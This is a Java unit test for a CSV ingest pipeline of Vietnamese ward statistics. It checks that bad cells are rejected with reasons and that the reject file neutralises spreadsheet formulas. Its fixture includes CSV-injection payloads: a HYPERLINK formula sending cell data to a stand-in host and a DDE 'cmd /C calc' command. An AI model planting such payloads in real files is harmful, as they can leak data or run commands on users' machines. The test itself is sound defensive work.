package org.wardstat.ingest;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.wardstat.PipelineTest;
import org.wardstat.system.Messages;

/**
 * One bad cell never fails a file: values the database cannot hold, periods outside any sense,
 * NUL and other control characters, formulas. Each such row is rejected with its row, column and
 * reason, and every other row loads.
 */
class BadCellsTest extends PipelineTest {

    @Autowired
    IngestService ingest;

    @TempDir
    Path temp;

    /** The rows of the file below, numbered as a spreadsheet shows them (the header is row 1). */
    static final String FILE = String.join("\n",
            "ward_code,ward_name,period,social_order_crimes,population,fire_damage,note",
            "duc-xuan,Phường Đức Xuân,2024-01,3,10000,,",                            // 2 good
            "huyen-tung,Phường Huyền Tụng,2024-01,1234567890123,5000,,",             // 3 thirteen digits: numeric(16,4) overflow
            "xuat-hoa,Phường Xuất Hóa,0000-01,1,100,,",                               // 4 year 0: no such date in PostgreSQL
            "song-cau,Phường Sông Cầu,0001-01,1,100,,",                               // 5 year 1: stored before, nonsense
            "phung-chi-kien,Phường Phùng Chí Kiên,2024-01,2,3000,,\"ghi chú \0 có NUL\"", // 6 NUL in the note
            "nguyen-thi-minh-khai,Phường\u0007,2024-01,1,100,,",                      // 7 a bell in a column kept for people
            "duc\0xuan,Phường Đức Xuân,2024-02,1,100,,",                              // 8 NUL in the ward code
            "phuong-ba-dinh,Phường Ba Đình,2024-01,1,100,,",                          // 9 a ward formed in July 2025
            "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"bấm\"\")\",Phường,2024-01,1,100,,", // 10 a formula as ward code
            "duc-xuan,Phường Đức Xuân,2024-03,+cmd|' /C calc'!A0,100,,",              // 11 a formula as value
            "duc-xuan,Phường Đức Xuân,2000-01,0,999999999999,\"999999999999,9999\",", // 12 the earliest month, the largest values: good
            "duc-xuan,Phường Đức Xuân,2024-02,4,10001,,") + "\n";                     // 13 good

    @Test
    void eachBadCellRejectsItsRowWithRowColumnAndReasonAndTheOtherRowsLoad() throws IOException {
        Path file = temp.resolve("o-xau.csv");
        Files.writeString(file, FILE, StandardCharsets.UTF_8);

        IngestResult result = ingest.ingest(file, Messages.vietnamese());

        assertThat(result.outcome()).as(String.valueOf(result.message())).isEqualTo(IngestResult.Outcome.LOADED);
        assertThat(result.rowsRead()).isEqualTo(12);
        assertThat(result.rowsRejected()).isEqualTo(9);
        assertThat(result.rowsLoaded()).isEqualTo(3);
        assertThat(jdbc.sql("select row_number || ' ' || column_name || ': ' || reason from ingest_reject order by row_number").query(String.class).list())
                .containsExactly(
                        "3 social_order_crimes: “1234567890123” quá lớn: giá trị phải nhỏ hơn 1.000.000.000.000",
                        "4 period: kỳ báo cáo “0000-01” quá sớm (kỳ sớm nhất được nhập là 01/2000)",
                        "5 period: kỳ báo cáo “0001-01” quá sớm (kỳ sớm nhất được nhập là 01/2000)",
                        "6 note: ô có ký tự điều khiển U+0000 ở vị trí 9 (hiện là ␀ … ␟): hãy xóa ký tự đó rồi nạp lại",
                        "7 ward_name: ô có ký tự điều khiển U+0007 ở vị trí 7 (hiện là ␀ … ␟): hãy xóa ký tự đó rồi nạp lại",
                        "8 ward_code: ô có ký tự điều khiển U+0000 ở vị trí 4 (hiện là ␀ … ␟): hãy xóa ký tự đó rồi nạp lại",
                        "9 period: phường “phuong-ba-dinh” được thành lập từ ngày 01/07/2025: số liệu tháng 01/2024 thuộc đơn vị tiền thân dien-bien, quan-thanh",
                        "10 ward_code: không có phường tên “=HYPERLINK(\"http://x.example/?\"&A1;\"bấm\")”",
                        "11 social_order_crimes: “+cmd|' /C calc'!A0” không phải là số");
        // what the user wrote, stored and shown with NUL visible
        assertThat(jdbc.sql("select cell_value || ' | ' || raw_row from ingest_reject where row_number = 8").query(String.class).single())
                .isEqualTo("duc␀xuan | duc␀xuan,Phường Đức Xuân,2024-02,1,100,,");

        assertThat(count("select count(*) from observation")).isEqualTo(7);
        assertThat(jdbc.sql("select value from observation where indicator_code = 'fire_damage'").query(BigDecimal.class).single())
                .isEqualByComparingTo("999999999999.9999");
        assertThat(jdbc.sql("select string_agg(to_char(period, 'YYYY-MM'), ',' order by period) from observation "
                + "where org_unit_code = 'duc-xuan' and indicator_code = 'social_order_crimes'").query(String.class).single())
                .isEqualTo("2000-01,2024-01,2024-02");
    }

    /** The reject file is for Excel: no cell of it may start a formula, and the NUL shows as ␀. */
    @Test
    void theRejectFileNeutralisesEveryCellThatASpreadsheetWouldRun() throws IOException {
        Path file = temp.resolve("o-xau.csv");
        Files.writeString(file, FILE, StandardCharsets.UTF_8);

        IngestResult result = ingest.ingest(file, Messages.vietnamese());

        List<String> lines = Files.readAllLines(result.rejectFile(), StandardCharsets.UTF_8);
        assertThat(lines).hasSize(10);
        assertThat(lines.get(8)).isEqualTo("o-xau.csv,,10,ward_code,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"bấm\"\")\",ward.unknown-name,"
                + "\"không có phường tên “=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"bấm\"\")”\","
                + "\"\"\"=HYPERLINK(\"\"\"\"http://x.example/?\"\"\"\"&A1;\"\"\"\"bấm\"\"\"\")\"\",Phường,2024-01,1,100,,\"");
        assertThat(lines.get(9)).startsWith("o-xau.csv,,11,social_order_crimes,'+cmd|' /C calc'!A0,value.not-a-number,");
        assertThat(lines.get(6)).startsWith("o-xau.csv,,8,ward_code,duc␀xuan,cell.control-character,");
        assertThat(lines).noneMatch(line -> line.contains("\0"));
    }
}
